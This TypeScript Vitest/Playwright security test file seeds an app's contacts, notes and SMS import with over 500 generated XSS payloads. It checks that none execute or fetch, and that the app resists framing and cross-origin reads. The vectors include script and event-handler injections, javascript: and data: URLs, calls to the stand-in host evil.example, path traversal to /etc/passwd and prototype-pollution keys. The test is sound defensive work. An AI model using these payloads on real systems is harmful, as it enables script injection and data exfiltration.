import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { Server } from '../server/harness';
import { expectQuiet, launch, nav, open, type Tab } from './harness';

/** More than 500 ways to get a script to run or a resource to be fetched, each of which sets `pwned` or asks for evil.example if it works. */
function vectors(): string[] {
  const run = [
    'pwned=1',
    'window.pwned=1',
    'top.pwned=1',
    'self[`pwned`]=1',
    'import(`//evil.example/x.js`)',
    'fetch(`//evil.example`)',
    'new Image().src=`//evil.example/i`',
    'eval(`pwned=1`)',
    'Function(`pwned=1`)()',
    'setTimeout(`pwned=1`)',
  ];
  const tags = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'iframe', 'marquee', 'object data=x'];
  const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart'];
  const out: string[] = [];
  for (const tag of tags) for (const event of events) for (const code of run) out.push(`"'><${tag} ${event}="${code}">`);
  for (const code of run) {
    out.push(
      `<script>${code}</script>`,
      `</title><script>${code}</script>`,
      `javascript:${code}`,
      `[x](javascript:${code})`,
      `{{${code}}}`,
      `\${${code}}`,
      `<a href="javascript:${code}">x</a>`,
      `\`;${code}//`,
    );
  }
  out.push(
    '<img src="http://evil.example/pixel.png">',
    '![](http://evil.example/pixel.png)',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<style>@import "//evil.example/x.css";</style>',
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<form action="//evil.example"><button>x',
    'data:text/html,<script>pwned=1</script>',
    '[x](data:text/html,<script>pwned=1</script>)',
    '\u202eevil\u202c\u0000\u0008 \ufeff \ud83d\ude00 ﷽ Ṱ̺̺̕o͞ ̷',
    '../../../etc/passwd',
    '__proto__',
    'constructor',
    'NULL',
  );
  return out;
}

let server: Server;
let browser: Browser;
let tab: Tab;
const dialogs: string[] = [];

beforeAll(async () => {
  server = await Server.start();
  browser = await launch();
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

async function expectNothingRan(page: Page): Promise<void> {
  expect(dialogs).toEqual([]);
  const found = await page.evaluate(() => ({
    pwned: 'pwned' in window,
    scripts: [...document.scripts].filter((s) => !new URL(s.src).pathname.startsWith('/assets/')).length,
    foreign: document.querySelectorAll(
      'iframe,object,embed,base,marquee,meta[http-equiv],svg script,[onerror],[onload],[onfocus],[ontoggle],[onstart],a[href^="javascript:"],a[href^="data:"]',
    ).length,
    polluted: 'pwned' in Object.prototype,
  }));
  expect(found).toEqual({ pwned: false, scripts: 0, foreign: 0, polluted: false });
  expectQuiet(tab, server.url);
}

test('W02 W03 Nothing that a contact, note, message or photo says is run or fetched', async () => {
  const all = vectors();
  expect(all.length).toBeGreaterThan(500);
  const folder = join(server.folder, 'hostile-folder');
  for (const kind of ['contacts', 'notes', 'inbox']) mkdirSync(join(folder, kind), { recursive: true });
  const plain = (v: string) => v.replace(/\u0000|\u0008/g, '');
  const escaped = (v: string) => plain(v).replace(/[\\,;]/g, '\\$&');
  all.forEach((v, i) => {
    const card = `BEGIN:VCARD\r\nVERSION:4.0\r\nUID:x${i}\r\nFN:${escaped(v)}\r\nORG:${escaped(v)}\r\nTEL:${escaped(v)}\r\nEMAIL:${escaped(v)}\r\nURL:${escaped(v)}\r\nNOTE:${escaped(v)}\r\nPHOTO:http://evil.example/${i}.jpg\r\nEND:VCARD\r\n`;
    writeFileSync(join(folder, 'contacts', `${i}.vcf`), card);
  });
  writeFileSync(
    join(folder, 'notes', 'all.md'),
    `# Everything ${plain(all[0]!)}\n\n${all.map(plain).join('\n\n')}\n\n- [ ] ${all.map(plain).join('\n- [x] ')}\n`,
  );
  all.slice(0, 40).forEach((v, i) => {
    writeFileSync(
      join(folder, 'notes', `n${i}.md`),
      `---\ntitle: ${JSON.stringify(plain(v))}\ntags: [${JSON.stringify(plain(v))}]\n---\n${plain(v)}\n`,
    );
  });
  const xml = (v: string) =>
    plain(v)
      .replace(/[\ud800-\udfff]/g, '')
      .replace(/&/g, '&amp;')
      .replace(/</g, '&lt;')
      .replace(/"/g, '&quot;');
  const messages = all.map(
    (v, i) =>
      `<sms address="${xml(i % 50 === 0 ? v : '+4930123')}" date="${1714564800000 + i}" type="1" body="${xml(v)}" read="1" contact_name="${xml(v)}" />`,
  );
  writeFileSync(
    join(folder, 'inbox', 'sms-1.xml'),
    `<?xml version="1.0" encoding="UTF-8"?>\n<smses count="${messages.length}">\n${messages.join('\n')}\n</smses>\n`,
  );

  const words = join(server.folder, 'words');
  writeFileSync(words, await server.candor('none', 'words'), { mode: 0o600 });
  await server.candor('phone', 'join', server.url, '--name', all[3]!.slice(0, 60), '--words-from', words, '--yes');
  await server.candor('phone', 'on', 'contacts', 'notes', 'messages', '--yes');
  await server.candor('phone', 'sync', folder).catch((e: { stdout: string }) => e.stdout);

  tab = await open(browser, server.url);
  const { page } = tab;
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.getByText('Come in with your 24 words').click();
  await page.getByRole('button', { name: 'Continue' }).click();
  await page.getByRole('textbox').fill((await import('node:fs')).readFileSync(words, 'utf8').trim());
  await page.getByRole('button', { name: 'Open my account' }).click();
  await page.getByRole('heading', { name: 'Safety' }).waitFor();
  for (const kind of ['Contacts', 'Notes', 'Messages']) {
    await page.getByRole('switch', { name: kind }).click();
    await page.getByRole('button', { name: /or older: turn it on/ }).click();
    await expect.poll(() => page.getByRole('switch', { name: kind }).getAttribute('aria-checked')).toBe('true');
  }
  await page.getByRole('dialog').waitFor({ state: 'detached' });

  await nav(page, 'Contacts');
  await page.locator('.row').first().waitFor();
  for (let i = 0; i < 40; i++) {
    await page.locator('.list .virtual').evaluate((e) => e.scrollBy(0, 900));
    await page.locator('.list .row').nth(2).click();
    await page.locator('.person-head').waitFor();
  }
  await expectNothingRan(page);
  await page.getByRole('button', { name: 'Edit' }).click();
  await expectNothingRan(page);

  await nav(page, 'Notes');
  await page.getByRole('searchbox').fill('Everything');
  await page.locator('.list .row').first().click();
  await page.locator('.markdown').waitFor();
  await expectNothingRan(page);
  expect(await page.locator('.markdown').textContent()).toContain('<script>pwned=1</script>');

  await nav(page, 'Messages');
  await page.locator('.list .row').first().click();
  await page.locator('.bubble').first().waitFor();
  await expectNothingRan(page);
  await nav(page, 'Search');
  await page.getByRole('searchbox').fill('<img src=x onerror=pwned=1>');
  await page.getByRole('searchbox').fill('pwned');
  await page.locator('.results li').first().waitFor();
  await expectNothingRan(page);
  await nav(page, 'Devices');
  await page.locator('.cards .card').first().waitFor();
  await expectNothingRan(page);
});

test('W04 No other page may frame the app or read from it', async () => {
  const { page } = tab;
  const headers = (await page.request.get(server.url)).headers();
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  const other = await tab.context.newPage();
  await other.route('http://evil.example/', (r) => r.fulfill({ contentType: 'text/html', body: `<iframe src="${server.url}/"></iframe>` }));
  await other.goto('http://evil.example/');
  const frame = other.frames().find((f) => f !== other.mainFrame());
  expect(await frame?.evaluate(() => document.querySelector('#app') !== null).catch(() => false)).toBe(false);
  const read = await other.evaluate(
    (url) =>
      fetch(`${url}/v1/server`).then(
        (r) => r.text(),
        () => 'refused',
      ),
    server.url,
  );
  expect(read).toBe('refused');
});
